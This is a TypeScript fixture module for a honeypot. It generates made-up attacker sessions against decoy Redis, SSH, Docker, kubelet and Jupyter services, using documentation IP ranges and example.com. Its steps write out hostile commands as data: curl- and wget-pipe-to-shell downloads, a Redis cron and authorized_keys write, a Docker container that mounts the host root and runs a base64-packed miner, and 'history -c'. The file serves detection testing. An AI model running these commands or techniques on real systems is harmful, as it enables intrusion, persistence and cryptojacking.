/**
 * What made-up visitors do at decoys, in the shapes of attacks that are known. Nothing in it works: addresses are of
 * the documentation ranges, domains of example.com, wallets are made from a number.
 */
import type { Recorded } from '../honeypot/decoy.ts';
import type { Fingerprint } from '../model/event.ts';
import type { Severity } from '../model/terms.ts';
import { wallet } from './sample-images.ts';

/** One event of a visit, as a decoy would record it. */
export interface Step extends Recorded {
  /** Seconds since the one before. */
  readonly after: number;
  readonly type: string;
  readonly port: number;
  readonly severity: Severity;
  readonly fp?: Fingerprint;
}

export interface VisitKind {
  /** Of so many visits. */
  readonly share: number;
  /** @param number the same one brings the same */
  steps(number: number): readonly Step[];
}

const scanner: Fingerprint = {
  ua: 'Mozilla/5.0 zgrab/0.x',
  headers: 'host,user-agent,accept,accept-encoding',
};
const dockerClient: Fingerprint = { ua: 'Go-http-client/1.1', headers: 'host,user-agent,content-type' };
/** Made up, in the form of an MD5. */
const sshClient: Fingerprint = { ua: 'SSH-2.0-Go', hassh: '0a1b2c3d4e5f60718293a4b5c6d7e8f9' };

const passwords = ['123456', 'admin', 'password', 'root', 'P@ssw0rd', 'raspberry', '1qaz2wsx', 'ubuntu'];
const users = ['root', 'root', 'admin', 'ubuntu', 'postgres', 'git'];

/** Where a second stage would come from. */
function stageOf(number: number): string {
  return `http://203.0.113.${200 + (number % 3)}/${['i', 'init', 'update'][number % 3]}.sh`;
}

export const visitKinds: readonly VisitKind[] = [
  { share: 8, steps: scan },
  { share: 5, steps: (number) => [...guesses(number), ...closed('ssh', 22)] },
  { share: 3, steps: (number) => [...redisCron(number), ...closed('redis', 6379)] },
  { share: 3, steps: dockerMiner },
  { share: 2, steps: kubelet },
  { share: 1, steps: jupyter },
  { share: 1, steps: fromRedisOverSshToDocker },
];

function scan(number: number): readonly Step[] {
  const [service, port, target] = (
    [
      ['docker', 2375, '/version'],
      ['http', 8080, '/'],
      ['kubelet', 10250, '/pods'],
      ['etcd', 2379, '/version'],
      ['http', 8080, '/.env'],
    ] as const
  )[number % 5]!;
  return [
    opened(service, port),
    {
      after: 1,
      type: `${service}.request`,
      port,
      severity: 'low',
      fp: scanner,
      raw: `GET ${target} HTTP/1.1\r\n`,
      texts: [],
      data: { method: 'GET', target },
    },
    ...closed(service, port),
  ];
}

function opened(service: string, port: number): Step {
  return { after: 2, type: `${service}.connect`, port, severity: 'info' };
}

function closed(service: string, port: number): readonly Step[] {
  return [{ after: 1, type: `${service}.close`, port, severity: 'info' }];
}

function guesses(number: number): readonly Step[] {
  const tries = 3 + (number % 4);
  return [
    opened('ssh', 22),
    { after: 1, type: 'ssh.client', port: 22, severity: 'info', fp: sshClient },
    ...Array.from({ length: tries }, (_, at): Step => {
      const user = users[(number + at) % users.length]!;
      const password = passwords[(number * 3 + at) % passwords.length]!;
      return {
        after: 3,
        type: 'ssh.auth',
        port: 22,
        severity: 'low',
        fp: sshClient,
        texts: [],
        attack: ['T1110'],
        data: { user, method: 'password', accepted: false, password },
      };
    }),
  ];
}

const cronFile = '/var/spool/cron/crontabs/root';

function redisCron(number: number): readonly Step[] {
  const line = `\n\n*/5 * * * * curl -fsSL ${stageOf(number)} | sh\n\n`;
  const at = { port: 6379, after: 1 } as const;
  return [
    opened('redis', 6379),
    { ...at, type: 'redis.probe', severity: 'info', texts: [], data: { command: 'INFO', args: [] } },
    {
      ...at,
      type: 'redis.config.set',
      severity: 'high',
      texts: [],
      data: { parameters: { dir: '/var/spool/cron/crontabs', dbfilename: 'root' } },
    },
    {
      ...at,
      type: 'redis.command',
      severity: 'low',
      raw: `SET backup1 ${line}`,
      texts: [line],
      data: { command: 'SET', args: ['backup1', line] },
    },
    {
      ...at,
      type: 'redis.save',
      severity: 'critical',
      texts: [line],
      attack: ['T1053.003'],
      data: { path: cronFile, keys: 1, isWritten: true },
      artefacts: [{ name: cronFile, content: Buffer.from(`REDIS0010${line}`) }],
    },
  ];
}

function dockerMiner(number: number): readonly Step[] {
  const url = stageOf(number);
  const script = `curl -fsSL ${url} -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o pool.example.com:4444 -u ${wallet(number % 4)}`;
  const packed = `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`;
  const cmd = ['chroot', '/mnt', 'sh', '-c', packed];
  const at = { port: 2375, after: 2, fp: dockerClient } as const;
  const container = { name: 'elegant_hopper', image: 'alpine' };
  return [
    opened('docker', 2375),
    {
      ...at,
      type: 'docker.request',
      severity: 'low',
      texts: [],
      data: { method: 'GET', target: '/version' },
    },
    {
      ...at,
      type: 'docker.container.create',
      severity: 'critical',
      raw: JSON.stringify({ Image: 'alpine', Cmd: cmd, HostConfig: { Binds: ['/:/mnt'] } }),
      texts: [packed],
      commands: [cmd.join(' ')],
      images: ['alpine'],
      attack: ['T1610', 'T1611'],
      data: { image: 'alpine', cmd, binds: ['/:/mnt'], privileged: false },
    },
    {
      ...at,
      type: 'docker.container.start',
      severity: 'high',
      texts: [],
      attack: ['T1610'],
      data: container,
    },
    {
      ...at,
      type: 'docker.container.run',
      severity: 'high',
      texts: [script],
      notes: [{ kind: 'request', url, tool: 'curl' }],
      data: { ...container, command: cmd.join(' '), exitCode: 0, output: '' },
      artefacts: [
        { name: '/tmp/.x', content: Buffer.from('#!/bin/sh\n# stands for a second stage\nexit 0\n') },
      ],
    },
    ...closed('docker', 2375),
  ];
}

function kubelet(number: number): readonly Step[] {
  const cmd = `sh -c "wget -q -O - ${stageOf(number)} | sh"`;
  const pod = { namespace: 'default', pod: 'web-7d9c5b6f4-x2x9k', container: 'web' };
  return [
    opened('kubelet', 10250),
    {
      after: 2,
      type: 'kubelet.request',
      port: 10250,
      severity: 'low',
      texts: [],
      attack: ['T1613'],
      data: { method: 'GET', target: '/pods' },
    },
    {
      after: 4,
      type: 'kubelet.run',
      port: 10250,
      severity: 'high',
      fp: { ua: 'python-requests/2.31.0', headers: 'host,user-agent,accept-encoding,accept' },
      raw: `POST /run/default/web/web\r\n\r\ncmd=${cmd}`,
      texts: [cmd],
      attack: ['T1609'],
      data: { ...pod, cmd, exitCode: 0, output: '' },
    },
    ...closed('kubelet', 10250),
  ];
}

function jupyter(number: number): readonly Step[] {
  const lines = ['id', 'nproc', `curl -s ${stageOf(number)} | bash`];
  const outputs = ['uid=1000(jovyan) gid=100(users) groups=100(users)\n', '4\n', ''];
  return [
    opened('jupyter', 8888),
    ...lines.map(
      (line, at): Step => ({
        after: 6,
        type: 'jupyter.terminal.input',
        port: 8888,
        severity: 'high',
        texts: [line],
        attack: ['T1059.004'],
        data: { line, exitCode: 0, output: outputs[at]! },
      }),
    ),
    ...closed('jupyter', 8888),
  ];
}

/** A key is planted in one service, opens the next, and from there a container is started: one session. */
function fromRedisOverSshToDocker(number: number): readonly Step[] {
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISAMPLEsampleSAMPLEsampleSAMPLEsampleSAMPLE sample';
  const place = '/root/.ssh/authorized_keys';
  const lines = ['uname -a', 'nproc; free -m', 'cat /proc/cpuinfo | grep -c processor', 'history -c'];
  const outputs = ['Linux web-01 6.1.0-18-amd64 #1 SMP x86_64 GNU/Linux\n', '8\n', '8\n', ''];
  return [
    opened('redis', 6379),
    {
      after: 2,
      type: 'redis.config.set',
      port: 6379,
      severity: 'high',
      texts: [],
      data: { parameters: { dir: '/root/.ssh', dbfilename: 'authorized_keys' } },
    },
    {
      after: 2,
      type: 'redis.save',
      port: 6379,
      severity: 'critical',
      texts: [],
      attack: ['T1098.004'],
      data: { path: place, keys: 1, isWritten: true },
      artefacts: [{ name: place, content: Buffer.from(`REDIS0010\n\n${key}\n\n`) }],
    },
    ...closed('redis', 6379),
    opened('ssh', 22),
    {
      after: 2,
      type: 'ssh.auth',
      port: 22,
      severity: 'high',
      fp: sshClient,
      texts: [],
      attack: ['T1110', 'T1078'],
      data: { user: 'root', method: 'publickey', accepted: true },
    },
    ...lines.map(
      (line, at): Step => ({
        after: 8,
        type: 'ssh.shell.input',
        port: 22,
        severity: 'high',
        fp: sshClient,
        texts: [line],
        attack: ['T1059.004'],
        data: { line, exitCode: 0, output: outputs[at]!, user: 'root' },
      }),
    ),
    ...closed('ssh', 22),
    ...dockerMiner(number),
  ];
}
